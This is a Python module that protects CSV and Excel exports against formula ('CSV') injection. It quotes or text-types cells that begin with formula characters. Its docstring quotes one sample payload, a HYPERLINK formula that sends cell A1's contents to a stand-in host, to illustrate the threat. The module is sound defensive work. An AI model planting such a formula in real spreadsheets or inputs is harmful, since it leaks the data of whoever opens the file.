"""Exports that cannot attack their reader (SPEC §11, OWASP "CSV injection"): every cell of
every .xlsx or CSV we write whose text begins with ``= + - @``, a tab or a carriage return is
written as text, never as a formula. Party names, summaries, reasons, dispute types and region
names are typed in by people; a party called ``=HYPERLINK("http://x/?"&A1,"详情")`` must stay a
name in the clerk's Excel.

Only strings are touched: numbers, decimals, dates and None pass through, so a negative amount
stays a number.

- CSV has no cell types, so a dangerous string gets a single quote ``'`` in front
  (:func:`safe_text`, :func:`csv_row`) — the OWASP recommendation; Excel and LibreOffice then read
  the field as text.
- .xlsx has cell types, so the text is kept exactly and the cell is *typed* as text
  (:func:`xlsx_row`): openpyxl stores any string starting with ``=`` as a formula (data_type
  ``"f"``), so such a value is handed to openpyxl as a cell whose data_type is set back to
  ``"s"`` (a string) after assignment, and which carries Excel's own ``quotePrefix`` flag — what
  Excel itself stores when a user types ``'=1`` — so that editing the cell in Excel does not turn
  it into a formula either. A prefix quote would instead be visible as part of the text in an
  .xlsx; a string cell needs none. The same cell object works in normal and write-only
  workbooks, so every workbook we write goes through this one function.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any, TypeGuard

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(value: object) -> TypeGuard[str]:
    """A string a spreadsheet could read as a formula; never a number or a date."""
    return isinstance(value, str) and value.startswith(DANGEROUS)


def safe_text(value: object) -> object:
    """A CSV field: a dangerous string with ``'`` in front, anything else unchanged."""
    if is_dangerous(value):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer.writerow`` with every field passed through :func:`safe_text`."""
    return [safe_text(value) for value in values]


class _Echo:
    """A file that hands back what is written: csv.writer then yields lines to stream."""

    def write(self, value: str) -> str:
        return value


def csv_stream(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """CSV lines for a streaming response: a BOM first (so Excel reads UTF-8), the header, then
    each row, every field through :func:`safe_text`."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    yield writer.writerow(csv_row(header))
    for row in rows:
        yield writer.writerow(csv_row(row))


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    """A row for ``sheet.append`` (openpyxl, normal or write-only sheet): a dangerous string
    becomes a text cell with the same text; anything else is passed on unchanged."""
    from openpyxl.cell import WriteOnlyCell

    row: list[object] = []
    for value in values:
        if is_dangerous(value):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"  # openpyxl made it "f" for a leading "="
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row
